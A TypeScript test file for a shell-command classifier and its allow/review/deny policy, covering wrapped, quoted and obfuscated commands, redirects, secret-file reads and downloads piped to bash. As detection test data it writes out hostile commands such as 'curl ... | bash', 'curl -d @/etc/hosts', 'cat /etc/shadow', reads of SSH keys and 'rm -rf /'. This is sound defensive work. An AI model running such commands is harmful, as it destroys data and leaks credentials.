// Tests for the shell-line classifier: the facts it finds (commands behind wrappers, unquoting,
// dynamic names, redirects, reads), its limits, its public surface, and the shipped policy's
// effect on every line of test/ssh/shell-corpus.yaml.
import assert from 'node:assert/strict';
import { SUMMARY_MAX } from '../../src/render/characters.ts';
import { readFileSync } from 'node:fs';
import { before, describe, it } from 'node:test';
import { parse as parseYaml } from 'yaml';
import * as classifier from '../../tools/ssh/classify/index.ts';
import { decideShell } from '../fixtures/shipped-policy.ts';
import { classifyShellLine, initShellParser, shellShape, ShellFactsSchema, summarizeShellLine, widenedShellShape, type ShellFacts } from '../../tools/ssh/classify/index.ts';

before(() => initShellParser());

const facts = (line: string): ShellFacts => classifyShellLine(line);
const find = (f: ShellFacts, name: string) => f.commands.find((c) => c.name === name);

type Effect = 'allow' | 'review' | 'deny';

describe('shipped shell policy over the corpus', () => {
  const corpus = parseYaml(readFileSync(new URL('./shell-corpus.yaml', import.meta.url), 'utf8')) as Array<{ line: string; effect: Effect; note: string }>;

  it('has at least 130 lines and all three effects', () => {
    assert.ok(corpus.length >= 130);
    for (const effect of ['allow', 'review', 'deny']) assert.ok(corpus.some((e) => e.effect === effect), effect);
  });
  for (const entry of corpus) {
    it(`${entry.effect}: ${JSON.stringify(entry.line).slice(0, 90)} (${entry.note})`, () => {
      const f = facts(entry.line);
      const decision = decideShell(f);
      assert.equal(decision.effect, entry.effect, `rules: ${decision.rules.join(', ')}; error: ${f.error}; blockers: ${f.readOnlyBlockers.join(' | ')}`);
      ShellFactsSchema.parse(f);
    });
  }
});

describe('commands behind wrappers', () => {
  const cases: Array<[line: string, name: string, via: string[], args: string[]]> = [
    ['sudo -u root -g wheel rm -rf /tmp/x', 'rm', ['sudo'], ['-rf', '/tmp/x']],
    ['sudo -- rm x', 'rm', ['sudo'], ['x']],
    ['doas -u bob rm x', 'rm', ['doas'], ['x']],
    ['env -i FOO=1 BAR=2 rm x', 'rm', ['env'], ['x']],
    ['env -u HOME -C /tmp rm x', 'rm', ['env'], ['x']],
    ['nohup rm x', 'rm', ['nohup'], ['x']],
    ['timeout -k 5 10s rm x', 'rm', ['timeout'], ['x']],
    ['timeout --signal=KILL 10 rm x', 'rm', ['timeout'], ['x']],
    ['nice -n 5 rm x', 'rm', ['nice'], ['x']],
    ['nice -5 rm x', 'rm', ['nice'], ['x']],
    ['ionice -c 3 rm x', 'rm', ['ionice'], ['x']],
    ['time -p rm x', 'rm', ['time'], ['x']],
    ['command -p rm x', 'rm', ['command'], ['x']],
    ['exec -a name rm x', 'rm', ['exec'], ['x']],
    ['builtin echo x', 'echo', ['builtin'], ['x']],
    ['busybox rm x', 'rm', ['busybox'], ['x']],
    ['stdbuf -o0 rm x', 'rm', ['stdbuf'], ['x']],
    ['setsid -f rm x', 'rm', ['setsid'], ['x']],
    ['chroot /srv rm x', 'rm', ['chroot'], ['x']],
    ['xargs -0 -n1 rm', 'rm', ['xargs'], []],
    ['xargs', 'echo', ['xargs'], []],
    ['find . -name x -exec rm {} \\;', 'rm', ['find -exec'], ['{}']],
    ['find . -execdir rm -f {} +', 'rm', ['find -execdir'], ['-f', '{}']],
    ['find . -ok rm {} \\;', 'rm', ['find -ok'], ['{}']],
    ['bash -c "rm x"', 'rm', ['bash -c'], ['x']],
    ["sh -xc 'rm x'", 'rm', ['sh -c'], ['x']],
    ["zsh -c 'rm x'", 'rm', ['zsh -c'], ['x']],
    ['eval rm x', 'rm', ['eval'], ['x']],
    ['eval "rm x"', 'rm', ['eval'], ['x']],
    ['ssh -p 22 -i key host rm x', 'rm', ['ssh'], ['x']],
    ["su -c 'rm x' bob", 'rm', ['su -c'], ['x']],
    ['watch -n 1 rm x', 'rm', ['watch'], ['x']],
    ['flock /tmp/l rm x', 'rm', ['flock'], ['x']],
    ['parallel rm ::: a b', 'rm', ['parallel'], ['a', 'b']],
    ['systemd-run --unit=x rm y', 'rm', ['systemd-run'], ['y']],
    ['strace -f -o /tmp/t rm y', 'rm', ['strace'], ['y']],
    ['xargs -I{} rm {}', 'rm', ['xargs'], ['{}']],
    ["sudo bash -c \"eval 'rm x'\"", 'rm', ['sudo', 'bash -c', 'eval'], ['x']],
  ];
  for (const [line, name, via, args] of cases) {
    it(`${line} runs ${name} via ${via.join(' > ')}`, () => {
      const f = facts(line);
      assert.equal(f.hasError, false, f.error);
      const command = find(f, name);
      assert.ok(command, `found: ${f.names.join(', ')}`);
      assert.deepEqual(command.via, via);
      assert.deepEqual(command.args, args);
      assert.equal(f.commands[0]?.name, line.split(' ')[0], 'the wrapper itself is listed first');
    });
  }

  it('counts re-parse depth', () => {
    assert.equal(facts("sudo bash -c \"eval 'rm x'\"").parseDepth, 2);
    assert.equal(find(facts("sudo bash -c \"eval 'rm x'\""), 'rm')?.depth, 2);
    assert.equal(facts('ls').parseDepth, 0);
  });
});

describe('unquoting command names', () => {
  const spellings = ['\\rm', "r''m", '"rm"', "'rm'", "$'\\x72m'", "$'\\162m'", "$'\\u0072m'", 'r\\m', '$"rm"', '/usr/bin/rm', '"/usr/bin/rm"', 'r""m'];
  for (const spelling of spellings) {
    it(`${spelling} is rm`, () => {
      const f = facts(`${spelling} -rf /tmp/x`);
      assert.equal(f.commands[0]?.name, 'rm');
      assert.equal(f.commands[0]?.path, spelling);
      assert.equal(f.commands[0]?.dynamic, false);
      assert.deepEqual(f.commands[0]?.args, ['-rf', '/tmp/x']);
    });
  }
});

describe('dynamic command names', () => {
  for (const name of ['$X', '${X}', '$(echo rm)', '`echo rm`', '/bin/r?', '/bin/r*', '"$X"', 'r$X', '$X/rm']) {
    it(`${name} is dynamic`, () => {
      const f = facts(`${name} -rf /tmp/x`);
      assert.equal(f.dynamic, true);
      assert.ok(f.names.includes('<dynamic>'));
      assert.equal(f.readOnly, false);
    });
  }
  it('a dynamic argument does not make the name dynamic', () => {
    const f = facts('echo $X');
    assert.equal(f.dynamic, false);
    assert.deepEqual(f.names, ['echo']);
  });
});

describe('every place a command can hide', () => {
  const places: Array<[string, string]> = [
    ['echo "$(id)"', 'substitution in double quotes'],
    ['cat <<EOF\n$(id)\nEOF', 'unquoted heredoc body'],
    ['echo ${x:-$(id)}', 'parameter expansion default'],
    ['echo $(( $(id) + 1 ))', 'arithmetic'],
    ['cat <(id)', 'process substitution'],
    ['tee >(id)', 'output process substitution'],
    ['f() { id; }', 'function body'],
    ['if id; then :; fi', 'if condition'],
    ['while id; do :; done', 'while condition'],
    ['for x in $(id); do :; done', 'for list'],
    ['case $(id) in *) :;; esac', 'case subject'],
    ['case x in x) id;; esac', 'case body'],
    ['(id)', 'subshell'],
    ['{ id; }', 'group'],
    ['false || id', 'or list'],
    ['true && id', 'and list'],
    ['ls | id', 'pipeline'],
    ['ls & id', 'background list'],
    ['echo `echo \\`id\\``', 'nested backticks'],
    ['x=$(id)', 'assignment value'],
    ['[[ -n $(id) ]]', 'test expression'],
    ['a=($(id))', 'array'],
    ['echo hi > $(id)', 'redirect target'],
    ['cat <<< $(id)', 'here-string'],
    ['echo ${x#$(id)}', 'prefix pattern of a parameter expansion'],
    ['echo ${x%%`id`}', 'suffix pattern in backticks'],
    ['echo ${x^^$(id)}', 'case-change pattern'],
    ['echo ${x/${y:-$(id)}/z}', 'replaced pattern, nested'],
    ['[[ $x =~ ^a$(id)$ ]]', 'regex of =~'],
    ['echo ${x#"$(id)"}', 'quoted prefix pattern'],
    ['echo ok; # id', 'not in a comment'],
  ];
  for (const [line, place] of places) {
    it(place, () => {
      const f = facts(line);
      assert.equal(f.hasError, false, f.error);
      assert.equal(f.names.includes('id'), place !== 'not in a comment', f.names.join(', '));
    });
  }
  it('quoted heredocs and single quotes do not run anything', () => {
    assert.deepEqual(facts("cat <<'EOF'\n$(id)\nEOF").names, ['cat']);
    assert.deepEqual(facts("echo '$(id)'").names, ['echo']);
    assert.deepEqual(facts('echo \\$\\(id\\)').names, ['echo']);
  });
  it('patterns without an expansion are text, however many ( | $ they hold', () => {
    for (const line of ['[[ $x =~ ^(a|b)$ ]]', '[[ $x =~ ^("a"|b)$ ]]', '[[ $x =~ ^[0-9]+$ ]]', 'echo ${x%%.*} ${x##*/} ${x/#a/b} ${x#\\$} ${x%\\"*}']) {
      const f = facts(line);
      assert.equal(f.hasError, false, `${line}: ${f.error}`);
      assert.equal(f.readOnly, true, line);
    }
  });
  it('a pattern parsed again adds only the commands it holds, at the depth of its line', () => {
    const f = facts('echo ${x#$y} ${x%%$(id)}');
    assert.deepEqual(f.names, ['id', 'echo']);
    assert.equal(f.parseDepth, 0);
    assert.equal(find(f, 'id')?.depth, 0);
  });
  it('arguments after a redirection belong to the command', () => {
    assert.deepEqual(find(facts('rm 2>/dev/null -rf /'), 'rm')?.args, ['-rf', '/']);
  });
});

describe('redirects', () => {
  it('reports operators, targets and writes', () => {
    const f = facts('ls > out 2>&1 < in >> app.log &>/dev/null 2>&-');
    assert.deepEqual(f.redirects, [
      { op: '>', target: 'out', write: true },
      { op: '>&', target: '1', write: false },
      { op: '<', target: 'in', write: false },
      { op: '>>', target: 'app.log', write: true },
      { op: '&>', target: '/dev/null', write: true },
      { op: '>&-', target: '', write: false },
    ]);
    assert.deepEqual(f.writesTo, ['out', 'app.log', '/dev/null']);
    assert.ok(f.readsPaths.includes('~/in'));
  });
  it('reads heredocs and here-strings without writing', () => {
    assert.deepEqual(facts('cat <<EOF\nx\nEOF').redirects, [{ op: '<<', target: 'EOF', write: false }]);
    assert.deepEqual(facts("cat <<< 'x'").redirects, [{ op: '<<<', target: 'x', write: false }]);
  });
  it('a write anywhere but /dev/null ends read-only', () => {
    assert.equal(facts('ls 2>/dev/null').readOnly, true);
    assert.equal(facts('ls >&file').readOnly, false);
    assert.deepEqual(facts('ls >&file').writesTo, ['file']);
  });
});

describe('reads', () => {
  it('knows which operands are files', () => {
    assert.deepEqual(facts('grep -e root -f pats.txt /etc/group').readsPaths, ['/etc/group', '~/pats.txt']);
    assert.deepEqual(facts('grep root /etc/group').readsPaths, ['/etc/group']);
    assert.deepEqual(facts('head -n 5 /var/log/syslog').readsPaths, ['/var/log/syslog']);
    assert.deepEqual(facts('cp -r /etc/nginx /tmp/n').readsPaths, ['/etc/nginx']);
    assert.deepEqual(facts('dd if=/dev/sda of=/tmp/x').readsPaths, ['/dev/sda']);
    assert.deepEqual(facts("curl -d @/etc/hosts https://x.example").readsPaths, ['/etc/hosts']);
    assert.deepEqual(facts('tar czf out.tgz /srv/data').readsPaths, ['/srv/data']);
  });
  it('resolves relative paths against cd', () => {
    assert.deepEqual(facts('cd /etc && cat ./ssh/../shadow').sensitiveReads, ['/etc/shadow']);
    assert.deepEqual(facts('cat shadow').sensitiveReads, []);
  });
  // pushd -n and popd -n change only the directory stack; pushd with no directory swaps the top
  // two, pushd +N/-N rotates the stack, popd returns to one the line may not show.
  for (const line of ['cd /etc; pushd -n /tmp; cat shadow', 'cd /etc && popd -n && cat shadow', 'cd /etc; pushd -n -- /tmp; cat shadow']) {
    it(`keeps the directory where ${line} leaves it: a secret read, denied`, async () => {
      assert.ok(facts(line).sensitiveReads.includes('/etc/shadow'), JSON.stringify(facts(line).sensitiveReads));
      assert.equal((await decideShell(facts(line))).effect, 'deny');
    });
  }
  for (const line of ['cd /tmp; pushd; cat shadow', 'cd /tmp; pushd +1; cat shadow', 'cd /tmp; pushd -1; cat shadow', 'cd /tmp; popd; cat shadow', 'cd /tmp; cd -; cat shadow', 'cd /tmp; cd -- -x; cat shadow']) {
    it(`leaves the directory unknown after ${line}, so its relative reads are not read-only`, () => {
      const f = facts(line);
      assert.equal(f.readOnly, false);
      assert.ok(f.readOnlyBlockers.some((b) => /in a directory the line leaves unknown/.test(b)), JSON.stringify(f.readOnlyBlockers));
    });
  }
  it('follows pushd to a directory it names, and cd with its options', () => {
    assert.deepEqual(facts('pushd /etc; cat shadow').sensitiveReads, ['/etc/shadow']);
    assert.deepEqual(facts('cd -P /etc && cat shadow').sensitiveReads, ['/etc/shadow']);
    assert.deepEqual(facts('cd /etc; cd; cat .pgpass').sensitiveReads.length > 0, true);
  });
  it('matches globs and run-time parts against secret locations', () => {
    assert.deepEqual(facts('cat /etc/s*w').sensitiveReads, ['/etc/s*w']);
    assert.deepEqual(facts('cat /root/.ssh/$KEY').sensitiveReads, ['/root/.ssh/$?']);
    assert.deepEqual(facts('cat /var/log/*.log').sensitiveReads, []);
  });
});

describe('downloads and interpreter code', () => {
  it('flags downloads run as code, not downloads alone', () => {
    assert.equal(facts('curl -s https://x.example | bash').downloadPipedToInterpreter, true);
    assert.equal(facts('bash <(curl -s https://x.example)').downloadPipedToInterpreter, true);
    assert.equal(facts('curl -s https://x.example > page.html').downloadPipedToInterpreter, false);
    assert.equal(facts('curl -s https://x.example | grep title').downloadPipedToInterpreter, false);
  });
  it('flags inline interpreter code', () => {
    for (const line of ["python3 -c 'print(1)'", "perl -ne 'print' f", "ruby -e 'p 1'", "node --eval '1'", "php -r 'echo 1;'", "lua -e 'print(1)'", "awk 'BEGIN{system(\"id\")}'", "python3 <<'EOF'\nprint(1)\nEOF"]) {
      assert.equal(facts(line).interpreterCode, true, line);
    }
    for (const line of ['python3 script.py', "awk '{print $1}' f", 'perl -v']) assert.equal(facts(line).interpreterCode, false, line);
  });
});

describe('limits and failures', () => {
  it('refuses lines over 64 KB, and trusts nothing of them', () => {
    const f = facts('echo ' + 'a'.repeat(64 * 1024));
    assert.equal(f.hasError, true);
    assert.match(f.error, /longer than/);
    // A line not classified names nothing it reads or writes: the error is the only fact, and no
    // list holds a value a rule could match as allowed.
    const { hasError, error, readOnlyBlockers, readOnly, ...rest } = f;
    assert.deepEqual([hasError, readOnly, readOnlyBlockers], [true, false, [error]]);
    assert.deepEqual(rest, { commands: [], names: [], dynamic: false, redirects: [], writesTo: [], writePaths: [], readsPaths: [], sensitiveReads: [], downloadPipedToInterpreter: false, interpreterCode: false, danger: [], parseDepth: 0 });
  });
  it('refuses a line whose pipes would make the grammar exhaust its memory, unparsed, and parses the next line', () => {
    // 16 KB of "a|" with nothing after the last pipe took the grammar's error recovery 1 GB; 48 KB
    // ran it out of memory, and every later line failed with it. Pipes coming from run-time text count too.
    for (const line of ['a|'.repeat(8_000), 'a a|'.repeat(15_000), `printf '${'a|'.repeat(2_001)}' | bash`]) {
      const f = facts(line);
      assert.equal(f.hasError, true, line.slice(0, 20));
      assert.match(f.error, /more than 2000 pipes/);
    }
    assert.deepEqual(facts('ls | wc -l').names, ['ls', 'wc']);
    const limit = facts('a|'.repeat(2_000) + 'a');
    assert.match(limit.error, /too many commands/, 'as many pipes as allowed are parsed, and their 2001 commands are one too many');
  });
  it('refuses a line the grammar takes too long to parse, whatever its re-parses, and parses the next line', () => {
    // The grammar's lexer goes back over "a;((1))" repeated: 64 KB of it took 27 s of the event loop.
    const f = facts('a;((1))'.repeat(9_000));
    assert.equal(f.hasError, true);
    assert.match(f.error, /took more than 250 ms of CPU time to parse/);
    assert.deepEqual(facts('ls -la /tmp').names, ['ls']);
  });
  it('bounds re-parse depth at 4', () => {
    const nest = (code: string, n: number): string => (n === 0 ? code : nest(`bash -c '${code.replace(/'/g, "'\\''")}'`, n - 1));
    assert.equal(facts(nest('ls', 4)).hasError, false);
    assert.equal(facts(nest('ls', 4)).parseDepth, 4);
    assert.equal(facts(nest('ls', 5)).hasError, true);
  });
  it('bounds the number of commands and the nesting', () => {
    assert.equal(facts('true;'.repeat(2500)).hasError, true);
    assert.equal(facts('('.repeat(600) + 'ls' + ')'.repeat(600)).hasError, true);
    // Groups with a redirection each count a level too: two hundred of them pass the bound, one hundred do not.
    assert.equal(facts('{ '.repeat(200) + 'ls; ' + '} >/dev/null; '.repeat(200)).hasError, true);
    assert.equal(facts('{ '.repeat(100) + 'ls; ' + '} >/dev/null; '.repeat(100)).hasError, false);
  });
  it('never throws on values that are not strings', () => {
    for (const value of [null, undefined, 42, {}, ['ls']]) {
      const f = classifyShellLine(value as unknown as string);
      assert.equal(f.hasError, true);
      assert.equal(f.readOnly, false);
    }
  });
});

describe('shape and summary', () => {
  it('gives the same shape to the same line however it is spaced or quoted, and keeps every operand', () => {
    assert.equal(shellShape('tail -n 100 /var/log/syslog'), shellShape("tail  -n '100' \"/var/log/syslog\""));
    assert.equal(shellShape('tail -n 100 /var/log/syslog'), 'tail "-n" "100" "/var/log/syslog" :: (program (command _ _ _ _ ) )');
    for (const [approved, wider] of [
      ['tail -n 100 /var/log/syslog', 'tail -n 5 /etc/shadow'],
      ['rm /tmp/a.log', 'rm /srv/data'],
      ['rm /tmp/a.log', 'rm /tmp/a.log /srv/data'],
      ['cp a.conf /etc/app/a.conf', 'cp a.conf /etc/passwd'],
      ['echo ok > /tmp/out', 'echo ok > /etc/cron.d/x'],
      ['systemctl restart nginx', 'systemctl restart sshd'],
      ["python3 -c 'print(1)' a.txt", "python3 -c 'print(1)' b.txt"],
    ]) assert.notEqual(shellShape(approved as string), shellShape(wider as string), `${approved} / ${wider}`);
  });
  it('keeps flags, names, verbs and code apart', () => {
    assert.notEqual(shellShape('rm -rf /tmp/a'), shellShape('rm -f /tmp/a'));
    assert.notEqual(shellShape('systemctl restart nginx'), shellShape('systemctl stop nginx'));
    assert.notEqual(shellShape("bash -c 'ls /tmp'"), shellShape("bash -c 'rm /tmp'"));
    assert.notEqual(shellShape('echo ls | sh'), shellShape('echo reboot | sh'));
    assert.notEqual(shellShape('sudo -u root ls'), shellShape('sudo -u root rm'));
  });
  it('keeps interpreter code in the shape: a grant for one script never covers another', () => {
    assert.notEqual(shellShape("python3 -c 'print(1)'"), shellShape("python3 -c 'import shutil; shutil.rmtree(\"/srv\")'"));
    assert.notEqual(shellShape("perl -e 'print 1'"), shellShape("perl -e 'unlink glob q(/srv/*)'"));
    assert.notEqual(shellShape("echo 'print(1)' | python3"), shellShape("echo 'import os; os.remove(\"/etc/hosts\")' | python3"));
  });
  it('widens only file operands that name one file: command, flags, option values and redirections stay', () => {
    assert.equal(widenedShellShape('tail -n 5 /var/app/a.log'), widenedShellShape("tail -n 5 '/srv/b.log'"));
    assert.notEqual(widenedShellShape('tail -n 5 /var/app/a.log'), widenedShellShape('tail -n 50 /var/app/a.log'));
    assert.notEqual(widenedShellShape('rm -f /tmp/a'), widenedShellShape('rm -rf /tmp/a'));
    assert.notEqual(widenedShellShape('rm /tmp/a'), widenedShellShape('rm /tmp/a /tmp/b'));
    assert.notEqual(widenedShellShape('grep foo /tmp/a'), widenedShellShape('grep bar /tmp/a'));
    assert.notEqual(widenedShellShape('cat /tmp/a > /tmp/out'), widenedShellShape('cat /tmp/a > /tmp/other'));
    assert.notEqual(widenedShellShape('chmod 644 /tmp/a'), widenedShellShape('chmod 777 /tmp/a'));
    assert.notEqual(widenedShellShape('cat /tmp/a'), widenedShellShape('cat /tmp/*'), 'a glob is not one named file');
    assert.notEqual(widenedShellShape('cat /tmp/a'), widenedShellShape('cat $F'), 'nor a run-time value');
    assert.notEqual(widenedShellShape('cat /tmp/a'), shellShape('cat /tmp/a'), 'a widened shape never equals an exact one');
  });
  it('has no widened shape for a line with no file operand, a secret read or a catastrophic command', () => {
    for (const line of ['uptime', 'systemctl restart nginx', 'cat /etc/shadow', 'cat ~/.ssh/id_ed25519', 'rm -rf /', 'cat /tmp/*', 'echo "x | y"']) {
      assert.equal(widenedShellShape(line), undefined, line);
    }
  });
  it('summarizes on one line of at most SUMMARY_MAX characters, dangers first', () => {
    const summary = summarizeShellLine('sudo reboot\n' + 'echo x; '.repeat(SUMMARY_MAX / 2));
    assert.ok(summary.length <= SUMMARY_MAX);
    assert.ok(!/[\n\r]/.test(summary));
    assert.match(summary, /^\[danger: power\]/);
    assert.match(summary, /x; … \(\d+ more characters\)$/, 'cut after a whole word, saying how much is left out');
    assert.equal(summarizeShellLine('uptime'), '[read-only] uptime');
  });
});

describe('public surface', () => {
  it('exports exactly the documented names', () => {
    assert.deepEqual(Object.keys(classifier).sort(), [
      'SHELL_DANGERS', 'ShellCommandSchema', 'ShellDangerSchema', 'ShellFactsSchema', 'ShellRedirectSchema',
      'classifyShellLine', 'failedShellFacts', 'initShellParser', 'shellShape', 'summarizeShellLine', 'widenedShellShape',
    ]);
  });
  it('initializes once, even when called concurrently', async () => {
    await Promise.all([initShellParser(), initShellParser()]);
    assert.equal(facts('ls').readOnly, true);
  });
  it('describes every fact', () => {
    for (const [key, schema] of Object.entries(ShellFactsSchema.shape)) {
      assert.ok(schema.description && schema.description.length > 10, key);
    }
  });
});
